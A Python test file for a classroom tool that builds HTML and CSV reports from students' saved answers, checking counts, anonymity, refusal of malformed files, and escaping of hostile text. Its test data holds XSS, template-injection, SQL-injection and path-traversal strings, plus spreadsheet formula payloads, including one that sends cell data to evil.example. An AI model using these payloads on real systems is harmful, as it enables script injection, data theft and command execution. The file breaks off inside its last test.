"""The class report, through the command line: counts, what it refuses, and that no file can write its own HTML or formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
from html.parser import HTMLParser
from pathlib import Path

import browser_helpers as look
import pytest
from fixtures.breaking import CASE, NOTEBOOK, edit, make, refusal, run

from tworooms.case import all_cases
from tworooms.class_report import COLUMNS, MOST_DECISIONS, neutral, stops_of, tidy

STOP, QUESTION = "which-room", "Which room would you choose for her?"
VOID = {"meta", "link", "br", "rect", "circle", "path"}


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    return make(tmp_path_factory.mktemp("class") / "collection", whole_book=False)


@pytest.fixture
def folder(tmp_path):
    made = tmp_path / "answers"
    made.mkdir()
    return made


def row(choice="Clinic", confidence="", reason="", *, stop=STOP, question=QUESTION, version="1.0.0"):
    return {"stop": stop, "question": question, "choice": choice, "confidence": confidence, "reason": reason, "version": version}


def saved(*rows, case="toy", version="1.0.0", **more):
    """What book.js writes when a student saves."""
    return {"format": "tworooms-decisions", "format_version": 1, "case": case, "case_version": version, "decisions": list(rows), **more}


def put(folder: Path, name: str, data) -> Path:
    path = folder / name
    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data, indent=2).encode())
    return path


class Seen(HTMLParser):
    """A page as elements with their attributes, as text, and as tables."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list = []
        self.words: list[str] = []
        self.tables: dict[str, list[list[str]]] = {}
        self.reasons: list[str] = []
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert not self._open, f"never closed: {self._open}"

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, *attrs))
        if tag not in VOID:
            self._open.append(tag)
        if tag == "caption":
            self._rows = []
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("td", "th"):
            self._rows[-1].append("")
        elif tag == "li" and ("dir", "auto") in attrs:
            self.reasons.append("")

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, *attrs))

    def handle_endtag(self, tag):
        self.tags.append(f"/{tag}")
        assert self._open.pop() == tag

    def handle_data(self, data):
        if "style" in self._open:
            return
        self.words.append(data)
        if "caption" in self._open:
            # Of two stops, the first.
            self.tables.setdefault(data, self._rows)
        elif "td" in self._open or "th" in self._open:
            self._rows[-1][-1] += data
        elif "li" in self._open and self.reasons:
            self.reasons[-1] += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_pi(self, data):
        raise AssertionError(f"an instruction: {data}")

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


def report(root: Path, folder: Path, *arguments: str) -> tuple[Seen, list[dict[str, str]], object]:
    """The page, the lines of the table, and what the command said."""
    outcome = run(root, "class-report", str(folder), *arguments)
    assert outcome.code == 0, outcome
    assert "Traceback" not in outcome.err
    page = Seen((folder / "class-report.html").read_text(encoding="utf-8"))
    return page, lines(folder), outcome


def lines(folder: Path) -> list[dict[str, str]]:
    text = (folder / "class-report.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# ------------------------------------------------------------------ a class of six, counted by hand

SIX = [
    [row("Clinic", "high", "A nurse is there.")],
    [row("Clinic", "low", "It is near."), row("Remote", "medium", "Her sister sits with her.")],
    [row("Remote", "high", "She knows the house."), row("Remote", "low", "I am not so sure now.")],
    [row("Alone", "", "She may choose.")],
    [row("Remote", "medium", ""), row("Clinic", "medium", "Somebody has to see her.")],
    [row("Clinic", "low", "Habit."), row("Remote", "high", "It costs less.")],
]


@pytest.fixture
def six(folder):
    for number, rows in enumerate(SIX):
        put(folder, f"student-{number}.json", saved(*rows))
    return folder


def test_votes_before_and_after(root, six):
    page, _, outcome = report(root, six)
    assert page.tables["Choices, before and after"] == [
        ["Choice", "First answer", "Latest answer"],
        ["Clinic", "3 of 6 (50%)", "2 of 6 (33%)"],
        ["Remote", "2 of 6 (33%)", "3 of 6 (50%)"],
        ["Alone", "1 of 6 (17%)", "1 of 6 (17%)"],
    ]
    assert "6 students answered. 4 of them answered again later, and 3 changed their choice." in page.text
    assert outcome.out.startswith("6 files read, 0 refused.") and outcome.err == ""


def test_who_moved_where(root, six):
    page, *_ = report(root, six)
    assert page.tables["Who moved"] == [["From", "To", "Students"], ["Clinic", "Remote", "2"], ["Remote", "Clinic", "1"]]
    assert "2 became surer, 1 less sure, and 1 stayed as sure" in page.text


def test_how_sure_they_are(root, six):
    page, *_ = report(root, six)
    head, *rows = page.tables["How sure they are of their latest answer"]
    assert [cell.strip() for cell in head] == ["Choice", "low", "medium", "high", "not said"]
    assert rows == [["Clinic", "0", "1", "1", "0"], ["Remote", "1", "1", "1", "0"], ["Alone", "0", "0", "0", "1"], ["All", "1", "2", "2", "1"]]


def test_bars_are_as_long_as_the_counts(root, six):
    page, *_ = report(root, six)
    bars = [dict(tag[1:]) for tag in page.tags if tag[0] == "rect"]
    lengths = [bar["width"] for bar in bars if bar.get("class") in ("fill-medium", "fill-solid") and "x" not in bar]
    swatch = "100%"
    assert [length for length in lengths if length != swatch] == ["50%", "33%", "33%", "50%", "17%", "17%"]


def test_bars_of_sureness_fill_the_whole_width_of_their_choice(root, six):
    page, *_ = report(root, six)
    parts = [(bar["class"], bar["x"], bar["width"]) for tag in page.tags if tag[0] == "rect" and "x" in (bar := dict(tag[1:]))]
    assert parts == [
        ("fill-medium", "0.0%", "50.0%"), ("fill-high", "50.0%", "50.0%"),
        ("fill-low", "0.0%", "33.33%"), ("fill-medium", "33.33%", "33.33%"), ("fill-high", "66.67%", "33.33%"),
        ("fill-not", "0.0%", "100.0%"),
    ]  # fmt: skip


def test_reasons_stand_under_their_choice(root, six):
    page, *_ = report(root, six)
    text = page.text
    latest, first = text.split("Reasons for the latest answer")[1].split("Reasons for the first answer")
    clinic, rest = latest.split("Remote", 1)
    remote, alone = rest.split(" Alone ", 1)
    assert "A nurse is there." in clinic and "Somebody has to see her." in clinic
    assert all(words in remote for words in ("Her sister sits with her.", "I am not so sure now.", "It costs less."))
    assert "She may choose." in alone
    assert "It is near." in first and "Habit." in first and "A nurse is there." not in first


def test_the_table_has_one_line_for_each_student_and_stop(root, six):
    _, table, _ = report(root, six)
    assert [line["student"] for line in table] == ["1", "2", "3", "4", "5", "6"]
    moved = next(line for line in table if line["reason"] == "It costs less.")
    assert moved == {"case": "toy", "case_version": "1.0.0", "student": moved["student"], "stop": STOP, "question": QUESTION,
                     "first_choice": "Clinic", "first_confidence": "low", "first_reason": "Habit.",
                     "choice": "Remote", "confidence": "high", "reason": "It costs less."}  # fmt: skip
    once = next(line for line in table if line["reason"] == "A nurse is there.")
    assert once["first_choice"] == once["first_confidence"] == once["first_reason"] == ""


def test_the_table_begins_as_excel_needs_it(root, six):
    report(root, six)
    content = (six / "class-report.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n")


def test_without_later_answers_there_is_no_before(root, folder):
    for number in range(5):
        put(folder, f"{number}.json", saved(row("Clinic", "high", f"Reason {number}")))
    page, *_ = report(root, folder)
    assert page.tables["Choices"] == [["Choice", "Students"], ["Clinic", "5 of 5 (100%)"], ["Remote", "0 of 5 (0%)"], ["Alone", "0 of 5 (0%)"]]
    assert list(page.tables) == ["Choices", "How sure they are"] and "answered again" not in page.text
    assert page.text.count("Nobody chose this.") == 2


def test_names_and_order_of_files_leave_no_trace(root, six, tmp_path):
    report(root, six)
    other = tmp_path / "other"
    other.mkdir()
    for number, rows in enumerate(reversed(SIX)):
        put(other, f"{['Zoe', 'ada', 'Maria', 'b', 'Yann', '1'][number]} Surname.JSON", saved(*rows))
    report(root, other)
    for name in ("class-report.html", "class-report.csv"):
        assert (six / name).read_bytes() == (other / name).read_bytes()
        assert b"Surname" not in (other / name).read_bytes() and b"student-" not in (six / name).read_bytes()


def test_reasons_do_not_stand_in_the_order_of_the_files(root, folder):
    reasons = [f"Reason number {number}" for number in range(12)]
    for number, reason in enumerate(reasons):
        put(folder, f"{number:02}.json", saved(row("Clinic", "high", reason)))
    page, table, _ = report(root, folder)
    assert sorted(page.reasons) == sorted(reasons) and page.reasons != reasons
    assert [line["reason"] for line in table] != reasons


def test_the_order_of_reasons_does_not_join_a_student_s_answers(root, folder):
    for number in range(12):
        put(folder, f"{number}.json", saved(*(row(reason=f"{stop} {number}", stop=stop, question=stop) for stop in ("one", "two")), case="elsewhere"))
    page, *_ = report(root, folder)
    first, second = page.reasons[:12], page.reasons[12:]
    assert [words.split()[1] for words in first] != [words.split()[1] for words in second]
    assert first == sorted(first, key=lambda words: hashlib.sha256(words.encode()).hexdigest())


# ------------------------------------------------------------------ sizes of class, copies, cases, versions


def test_an_empty_folder(root, folder):
    page, table, outcome = report(root, folder)
    assert "No student's file was found" in page.text and table == []
    assert outcome.out.startswith("0 files read, 0 refused.")


def test_an_empty_folder_with_a_case_shows_its_stops(root, folder):
    page, *_ = report(root, folder, "--case", "toy")
    assert page.tables["Choices"] == [["Choice", "Students"], *[[choice, "0 of 0 (0%)"] for choice in ("Clinic", "Remote", "Alone")]]
    assert "Nobody answered." in page.text


@pytest.mark.parametrize(("number", "shown"), [(1, False), (4, False), (5, True)])
def test_reasons_of_few_are_left_out(root, folder, number, shown):
    for one in range(number):
        put(folder, f"{one}.json", saved(row("Clinic", "low", f"First {one}."), row("Remote", "low", f"Later {one}.")))
    page, table, _ = report(root, folder)
    content = (folder / "class-report.html").read_text(encoding="utf-8") + (folder / "class-report.csv").read_text(encoding="utf-8-sig")
    assert ("Later 0." in content) == ("First 0." in content) == shown
    assert ("Fewer than 5 answered." in page.text) != shown
    assert len(table) == number and all(bool(line["reason"]) == shown for line in table)


def test_reasons_of_few_on_request(root, folder):
    put(folder, "a.json", saved(row("Clinic", "low", "Mine.")))
    page, table, _ = report(root, folder, "--show-reasons-of-few")
    assert page.reasons == ["Mine."] and table[0]["reason"] == "Mine."
    assert "Fewer than 5 answered." in page.text


def test_a_stop_that_few_answered_in_a_class_of_many(root, folder):
    for one in range(6):
        rows = [row(reason=f"Many {one}", stop="first", question="One?")] + [row(reason=f"Rare {one}", stop="second", question="Two?")] * (one < 2)
        put(folder, f"{one}.json", saved(*rows, case="elsewhere"))
    page, table, _ = report(root, folder)
    assert len(page.reasons) == 6 and all(words.startswith("Many") for words in page.reasons)
    assert not any("Rare" in line["reason"] for line in table)


def test_copies_are_counted_once_and_told(root, folder):
    mine = saved(row("Clinic", "low", "Mine."))
    put(folder, "a.json", mine)
    put(folder, "a (1).json", b"\xef\xbb\xbf" + json.dumps(mine).replace(", ", ",\r\n").encode())
    put(folder, "b.json", saved(row("Remote", "low", "Other.")))
    page, table, outcome = report(root, folder)
    assert page.tables["Choices"][1:] == [["Clinic", "1 of 2 (50%)"], ["Remote", "1 of 2 (50%)"], ["Alone", "0 of 2 (0%)"]]
    assert "1 file holds the same reasons as another, word for word, and is not counted again." in page.text
    assert len(table) == 2 and "1 file with the same reasons as another, word for word: counted once." in outcome.err


def test_files_without_words_are_people_who_agree(root, folder):
    for name in "abc":
        put(folder, f"{name}.json", saved(row("Clinic", "low")))
    page, table, outcome = report(root, folder)
    assert page.tables["Choices"][1] == ["Clinic", "3 of 3 (100%)"] and len(table) == 3
    assert "same reasons" not in page.text and outcome.err == ""


def test_files_from_two_cases_are_kept_apart(root, folder):
    put(folder, "a.json", saved(row("Clinic")))
    put(folder, "b.json", saved(row("Yes", stop="go", question="Go?"), case="elsewhere"))
    page, table, _ = report(root, folder)
    assert "2 files from 2 cases." in page.text and "The collection does not have the case elsewhere" in page.text
    assert {(line["case"], line["student"]) for line in table} == {("toy", "1"), ("elsewhere", "1")}
    page, table, outcome = report(root, folder, "--case", "toy")
    assert "1 file of other cases is left out." in page.text and [line["case"] for line in table] == ["toy"]
    assert "Go?" not in page.text and "1 of other cases left out" in outcome.out


def test_another_version_is_said_and_its_choices_kept(root, folder):
    put(folder, "new.json", saved(row("Clinic")))
    put(folder, "old.json", saved(row("The ward", version="0.9.0"), row("No", stop="dropped", question="Dropped?", version="0.9.0"), version="0.9.0"))
    page, table, _ = report(root, folder)
    assert "The versions differ. 1 student answered version 0.9.0; 1 student answered version 1.0.0." in page.text
    assert page.tables["Choices"][4] == ["The ward (not in version 1.0.0)", "1 of 2 (50%)"]
    assert "This version of the case no longer has this stop." in page.text
    assert {line["case_version"] for line in table} == {"0.9.0", "1.0.0"}


def test_a_choice_with_other_quotation_marks_is_the_same_choice(root, folder):
    own = make(folder.parent / "own", whole_book=False)
    edit(own / NOTEBOOK, "- Alone\\n", "- Joel's *own* sofa -- “hers”\\n")
    put(folder, "a.json", saved(row("Joel’s own sofa -- \"hers\"")))
    page, *_ = report(own, folder)
    assert page.tables["Choices"][3] == ["Joel's own sofa -- “hers”", "1 of 1 (100%)"]


def test_a_broken_case_is_said_and_reported_from_the_files(root, folder):
    own = make(folder.parent / "own", whole_book=False)
    edit(own / CASE, "version: 1.0.0", "version: one")
    put(folder, "a.json", saved(row("Clinic")))
    page, _, outcome = report(own, folder)
    assert outcome.err.startswith("cases/toy/case.yml:7: version:") and "The collection does not have the case toy" in page.text


def test_a_file_without_answers_is_a_student_without_answers(root, folder):
    put(folder, "a.json", saved())
    page, table, _ = report(root, folder)
    assert "1 student, of whom 1 saved a file without an answer" in page.text and table == []


def test_five_hundred_files(root, folder):
    pick = random.Random(7)
    chosen = [pick.choice(["Clinic", "Remote", "Alone"]) for _ in range(500)]
    for number, choice in enumerate(chosen):
        put(folder, f"{number}.json", saved(row(choice, pick.choice(["", "low", "high"]), f"Because of {number}. " * 20)))
    page, table, _ = report(root, folder)
    assert [cells[1].split()[0] for cells in page.tables["Choices"][1:]] == [str(chosen.count(name)) for name in ("Clinic", "Remote", "Alone")]
    assert len(page.reasons) == len(table) == 500


# ------------------------------------------------------------------ files that are refused

GOOD = saved(row("Clinic", "low", "Mine."))
TEXT = json.dumps(GOOD)


def changed(**fields) -> bytes:
    return json.dumps({**GOOD, **fields}).encode()


def answer(**fields) -> bytes:
    return changed(decisions=[{**GOOD["decisions"][0], **fields}])


def without(name: str) -> bytes:
    return json.dumps({key: value for key, value in GOOD.items() if key != name}).encode()


REFUSED = {
    "empty": (b"", "is empty; expected a file as a case saves it"),
    "only spaces": (b" \n\n", "is empty"),
    "only a byte order mark": (b"\xef\xbb\xbf", "line 1 is not JSON"),
    "no JSON": (b"MZ\x90".replace(b"\x90", b""), "line 1 is not JSON (Expecting value)"),
    "half a file": (TEXT.encode()[:90], "is not JSON"),
    "two values": (TEXT.encode() * 2, "is not JSON (Extra data)"),
    "HTML": (b"<!doctype html><script>alert(1)</script>", "line 1 is not JSON"),
    "bad UTF-8": (TEXT.replace("Mine", "M\\u0000").encode().replace(b"\\u0000", b"\xff\xfe"), "is not UTF-8; expected UTF-8 text"),
    "UTF-16": (TEXT.encode("utf-16"), "byte 1 is not UTF-8"),
    "overlong UTF-8": (TEXT.encode().replace(b"Mine", b"\xc0\xbcscript"), "is not UTF-8"),
    "a raw null byte": (TEXT.encode().replace(b"Mine", b"\x00"), "is not JSON (Invalid control character at)"),
    "nothing but null bytes": (b"\x00" * 2000, "is not JSON"),
    "10 MB": (changed(more="x" * 10_000_000), "holds 10.0 MB; expected at most 1 MB"),
    "just over 1 MB": (b" " * (1_000_001 - len(TEXT)) + TEXT.encode(), "holds 1.0 MB; expected at most 1 MB"),
    "deep lists": (b"[" * 200_000, "is nested too deeply"),
    "deep objects": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "is nested too deeply"),
    "deep within a field": (changed(more=0).replace(b": 0}", b": " + b"[" * 100_000 + b"]" * 100_000 + b"}"), "is nested too deeply"),
    "NaN": (changed(format_version=float("nan")), "holds NaN, which is no JSON"),
    "Infinity": (changed(more=float("inf")), "holds Infinity, which is no JSON"),
    "minus Infinity": (changed(more=[float("-inf")]), "holds -Infinity, which is no JSON"),
    "a number of 5,000 digits": (changed(format_version=0).replace(b": 0,", b": " + b"9" * 5000 + b","), "holds a number that is too long"),
    "a number beyond floats": (changed(format_version=0).replace(b": 0,", b": 1e999,"), "format_version is a number; expected 1"),
    "a list": (b"[]", "is a list; expected the object that a case saves"),
    "a text": (b'"x"', "is 'x'; expected the object"),
    "null": (b"null", "is null; expected the object"),
    "a number": (b"7", "is a number; expected the object"),
    "an object without anything": (b"{}", "format is missing; expected 'tworooms-decisions'"),
    "another format": (changed(format="quiz"), "format is 'quiz'; expected 'tworooms-decisions'"),
    "a format of the wrong type": (changed(format=["tworooms-decisions"]), "format is a list"),
    "a later format": (changed(format_version=2), "format_version is 2; expected 1"),
    "true for 1": (changed(format_version=True), "format_version is true; expected 1"),
    "1.0 for 1": (changed(format_version=1.0), "format_version is a number; expected 1"),
    "text for 1": (changed(format_version="1"), "format_version is '1'; expected 1"),
    "no case": (without("case"), "case is missing; expected text"),
    "a case that climbs": (changed(case="../../etc/passwd"), "case: '../../etc/passwd' is not accepted"),
    "a case in capitals": (changed(case="TOY"), "case: 'TOY' is not accepted"),
    "a case with a line end": (changed(case="toy\n"), "case: 'toy\\n' is not accepted"),
    "a case named like a prototype": (changed(case="__proto__"), "case: '__proto__' is not accepted"),
    "a case that turns its line": (changed(case="toy\u202e"), "case: 'toy\\u202e' is not accepted"),
    "a case with an escape sequence": (changed(case="\x1b[2Jtoy"), "case: '\\x1b[2Jtoy' is not accepted"),
    "a long case": (changed(case="a" * 200), "is not accepted"),
    "a case that is a number": (changed(case=7), "case: a number is not accepted; expected text"),
    "no version": (without("case_version"), "case_version is missing"),
    "a version in words": (changed(case_version="new"), "case_version: 'new' is not accepted; expected three numbers such as 1.0.0"),
    "a version in other digits": (changed(case_version="١.٠.٠"), "case_version: '١.٠.٠' is not accepted"),
    "a version with markup": (changed(case_version="1.0.0<b>"), "case_version: '1.0.0<b>' is not accepted"),
    "no decisions": (without("decisions"), "decisions is missing; expected a list"),
    "decisions in an object": (changed(decisions={"0": {}}), "decisions: an object is not accepted; expected a list"),
    "decisions as text": (changed(decisions="all"), "decisions: 'all' is not accepted; expected a list"),
    "too many decisions": (changed(decisions=[row()] * (MOST_DECISIONS + 1)), "holds 101 decisions; expected at most 100"),
    "a decision that is null": (changed(decisions=[None]), "decision 1: null is not accepted"),
    "a decision that is a text": (changed(decisions=[row(), "x"]), "decision 2: 'x' is not accepted"),
    "a decision without a choice": (changed(decisions=[{"stop": STOP, "question": "?", "version": "1.0.0"}]), "decision 1: choice is missing; expected text"),
    "an unknown stop": (answer(stop="elsewhere"), "decision 1: stop: 'elsewhere' is no stop of the case; expected one of which-room"),
    "a stop named like a prototype": (answer(stop="__proto__"), "decision 1: stop: '__proto__' is not accepted"),
    "a stop named like a constructor": (answer(stop="constructor"), "decision 1: stop: 'constructor' is no stop of the case"),
    "an unknown choice": (answer(choice="Hospital"), "decision 1: choice: 'Hospital' is none of the choices at 'which-room'; expected one of the 3"),
    "a choice with markup": (answer(choice="Clinic<script>"), "decision 1: choice: 'Clinic<script>' is none of"),
    "a choice that is a number": (answer(choice=1), "decision 1: choice: a number is not accepted; expected text"),
    "a choice that is true": (answer(choice=True), "decision 1: choice: true is not accepted"),
    "a choice that is a list": (answer(choice=["Clinic"]), "decision 1: choice: a list is not accepted"),
    "an empty choice": (answer(choice=""), "decision 1: choice is empty"),
    "a choice of control characters": (answer(choice="\x00\u202e\u200b "), "decision 1: choice is empty"),
    "an unknown confidence": (answer(confidence="total"), "decision 1: confidence: 'total' is not accepted; expected one of low, medium, high, or nothing"),
    "a confidence that is a number": (answer(confidence=3), "decision 1: confidence: a number is not accepted"),
    "a reason that is null": (answer(reason=None), "decision 1: reason: null is not accepted"),
    "a reason that is an object": (answer(reason={"toString": "x"}), "decision 1: reason: an object is not accepted"),
    "a reason of 4,001 characters": (answer(reason="x" * 4_001), "decision 1: reason is 4,001 characters long; expected at most 4,000"),
    "a long choice": (answer(choice="x" * 100_000), "decision 1: choice is 100,000 characters long"),
    "a key twice": (TEXT.replace('"case": "toy"', '"case": "toy", "case": "toy"').encode(), "says 'case' twice in one object; expected each key once"),
    "a key twice within": (TEXT.replace('"reason"', '"choice": "Alone", "reason"').encode(), "says 'choice' twice in one object"),
    "a prototype key twice": (b'{"__proto__": {}, "__proto__": {}}', "says '__proto__' twice"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "said"), REFUSED.values(), ids=REFUSED)
def test_a_file_that_is_refused_by_name_beside_a_good_one(root, folder, content, said):
    put(folder, "bad one.json", content)
    put(folder, "good.json", saved(row("Remote")))
    page, table, outcome = report(root, folder)
    line = outcome.err.rstrip("\n")
    assert line.startswith("bad one.json: ") and said in line and "; expected " in line
    assert "\n" not in line and len(line) < 400 and line.isprintable()
    assert [entry["choice"] for entry in table] == ["Remote"] and "1 file could not be read and is not counted." in page.text
    assert "bad one" not in page.text and outcome.out.startswith("1 file read, 1 refused.")


def test_a_good_file_is_not_refused(root, folder):
    """Without which the table above would prove nothing."""
    put(folder, "good.json", TEXT.encode())
    put(folder, "with a mark.json", b"\xef\xbb\xbf" + changed(decisions=[row("Alone")]))
    put(folder, "just under 1 MB.json", b" " * (1_000_000 - len(answer(reason="x" * 4_000))) + answer(reason="x" * 4_000))
    *_, outcome = report(root, folder)
    assert outcome.err == "" and outcome.out.startswith("3 files read, 0 refused.")


def test_fields_that_the_format_does_not_name_go_nowhere(root, folder):
    more = {"__proto__": {"admin": True}, "constructor": "x", "name": "Maria", "toString": "<b>"}
    put(folder, "a.json", {**saved({**row(), **more}), **more})
    page, table, _ = report(root, folder)
    assert "Maria" not in page.text and len(table) == 1 and list(table[0]) == list(COLUMNS)


def test_what_is_no_file(root, folder, tmp_path):
    put(folder, "good.json", GOOD)
    secret = put(tmp_path, "secret.json", saved(row("Alone", "", "Secret.")))
    (folder / "link.json").symlink_to(secret)
    (folder / "loop.json").symlink_to(folder / "loop.json")
    (folder / "gone.json").symlink_to(tmp_path / "nothing")
    (folder / "folder.json").mkdir()
    (folder / "unread").mkdir()
    expected = {"folder.json": "is a folder", "gone.json": "is a link", "link.json": "is a link", "loop.json": "is a link"}
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.json")
        expected["pipe.json"] = "is no ordinary file"
    page, table, outcome = report(root, folder, "--show-reasons-of-few")
    said = outcome.err.splitlines()
    assert [line.split(";")[0] for line in said[:-1]] == [f"{name}: {problem}" for name, problem in expected.items()]
    assert said[-1].startswith("1 folder(s) inside")
    assert page.reasons == ["Mine."] and len(table) == 1


HOSTILE_NAMES = ["<img src=x onerror=alert(1)>.json", "\u202egnp.json", "two\nlines.json", "\x1b[31mred.json", "[bold]a[bold] :smile:.json", "=1+1.json"]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
def test_a_hostile_name_stays_in_its_line(root, folder, name):
    put(folder, name, b"[]")
    put(folder, "good.json", GOOD)
    page, _, outcome = report(root, folder)
    line = outcome.err.removesuffix("\n")
    assert line.isprintable() and line.endswith(": is a list; expected the object that a case saves")
    assert ("smile" not in name or ":smile:" in line) and not any("img" in tag[0] for tag in page.tags)


@pytest.mark.skipif(os.name == "nt", reason="names are Unicode there")
def test_a_name_that_is_not_unicode(root, folder):
    with open(os.fsencode(folder) + b"/\xff.json", "wb") as file:
        file.write(b"[]")
    put(folder, "good.json", GOOD)
    *_, outcome = report(root, folder)
    assert outcome.err.startswith("\\udcff.json: is a list")


# ------------------------------------------------------------------ words that would like to be more than words

WORDS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "image handler": "<img src=x onerror=alert(1)>",
    "svg handler": "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "foreign object": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "javascript address": '<a href="javascript:alert(1)">x</a>',
    "javascript address in pieces": '<a href="java\tscript:alert(1)">x</a>',
    "bare javascript address": "javascript:alert(document.domain)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><button formaction="javascript:alert(1)">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "style sheet": "</style><style>*{background:url(https://evil.example)}",
    "style attribute": '<p style="position:fixed;inset:0">',
    "end of the title": "</title><script>alert(1)</script>",
    "end of everything": "</td></tr></table></main></body></html><h1>Mine</h1>",
    "comment": "<!-- x --!> <script>",
    "open comment": "<!--",
    "instruction": "<?php echo 1 ?>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "leaving an attribute": '" onmouseover="alert(1)" x="',
    "leaving a quoted attribute": "' autofocus onfocus='alert(1)",
    "backquotes": "`onclick=alert(1)`",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#x3e;alert(1)",
    "entity without end": "&ampscript &copy",
    "template braces": "{{7*7}}",
    "template block": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template attribute": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "template comment": "{# x #}",
    "other braces": "${7*7} #{7*7} <%= 7*7 %> %s%n {0.__class__}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "dunder": "__class__",
    "console markup": "[red]x[/red] :smile:",
    "path": "../../../../etc/passwd",
    "null character": "a\x00<script\x00>",
    "control characters": "a\x01\x08\x0b\x0c\x1b[31mred\x7f\x85\x9f",
    "direction override": "\u202egnp.exe\u202c",
    "direction isolate": "\u2067abc\u2069 \u2066x",
    "right to left": "لا أحد يعرف الجرعة",
    "zero width": "<\u200bscript\u2060>\ufeff",
    "half a character": "\ud83d<script>\udc00",
    "noncharacters": "\uffff\ufdd0\U0010ffff",
    "separators": "one\u2028two\u2029three",
    "piled accents": "Z" + "\u0301\u0323" * 300,
    "joined emoji": "👩‍⚕️ is there",
    "SQL": "'; DROP TABLE students;--",
    "longest": "<b>" * 1332,
    "many lines": "a" + "\n" * 900 + "b",
    "formula": "=1+1",
    "link formula": '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "command formula": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab formula": "\t=1+1",
    "carriage return formula": "\r=1+1",
    "line end formula": "fine\n=1+1",
    "spaces and formula": "   =1+1",
    "quoted formula": '"=1+1"',
    "wide formula": "＝1＋1",
    "invisible before formula": "\u200b\u202e=1+1",
    "semicolon and formula": "fine;=1+1; @SUM(1)",
    "quote, separator and formula": 'fine","=1+1"\r\n"=2',
}  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def hostile(words: str) -> dict:
    return saved(row(words, "low", words, stop="s", question=words), row(words + " 2", "high", words + " 3", stop="s", question=words), case="elsewhere")


def assert_neutral(folder: Path, rows: int) -> None:
    """Nothing in the table is a formula, whichever way a spreadsheet cuts its lines."""
    text = (folder / "class-report.csv").read_bytes().decode("utf-8-sig")
    assert len(text.splitlines()) == rows + 1 == text.count("\r\n")
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert len(cells) == len(COLUMNS)
        for cell in cells:
            assert not cell.startswith(FORMULA), cell
            assert not cell.lstrip(" \"").startswith(FORMULA), cell
    for line in text.splitlines():
        for cell in line.split(";"):
            assert not cell.lstrip(" \"").startswith(FORMULA), line


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_words_stay_words(root, tmp_path, words):
    pages = {}
    for kind, said in (("plain", "some words"), ("hostile", words)):
        folder = tmp_path / kind
        folder.mkdir()
        put(folder, "a.json", hostile(said))
        pages[kind], table, outcome = report(root, folder, "--show-reasons-of-few")
        assert outcome.err == "" and len(table) == 1
    # The very same elements with the very same attributes as for harmless words.
    assert pages["hostile"].tags == pages["plain"].tags
    assert tidy(words, lines=True) and tidy(words) in pages["hostile"].text
    assert sorted(pages["hostile"].reasons) == sorted([tidy(words, lines=True), tidy(words + " 3", lines=True)])
    raw = (tmp_path / "hostile" / "class-report.html").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufdd0\uffff]", raw)
    assert "Undefined" not in raw and "49" not in pages["hostile"].text
    assert_neutral(tmp_path / "hostile", 1)


#: Every element that the template makes, with the attributes it gives it.
ALLOWED = {
    "html": {"lang"}, "head": set(), "meta": {"charset", "name", "content", "http-equiv"}, "title": set(), "link": {"rel", "href"}, "style": set(),
    "body": {"class"}, "svg": {"class", "aria-hidden", "width", "height"}, "pattern": {"id", "width", "height", "patternunits", "patterntransform"},
    "circle": {"class", "cx", "cy", "r"}, "path": {"class", "d"}, "rect": {"class", "width", "height", "x"}, "main": set(), "div": {"class"}, "article": {"class"},
    "p": {"class"}, "h1": set(), "h2": {"id"}, "h3": {"id", "dir"}, "h4": set(), "h5": {"dir"}, "section": {"class", "aria-labelledby"},
    "ul": {"class"}, "li": {"dir"}, "em": set(), "strong": set(), "code": set(), "span": {"class", "dir"}, "table": {"class"}, "caption": set(),
    "thead": set(), "tbody": set(), "tfoot": set(), "tr": set(), "th": {"scope", "class", "dir"}, "td": {"class", "dir"}, "footer": {"class"},
}  # fmt: skip


def test_a_whole_class_of_hostile_files(root, folder):
    for number, content in enumerate(REFUSED.values()):
        put(folder, f"refused {number}.json", content[0])
    for number, words in enumerate(WORDS.values()):
        # A number makes each a student's own: some are the same once their control characters are gone.
        put(folder, f"accepted {number}.json", hostile(f"{words[:3990]} {number}"))
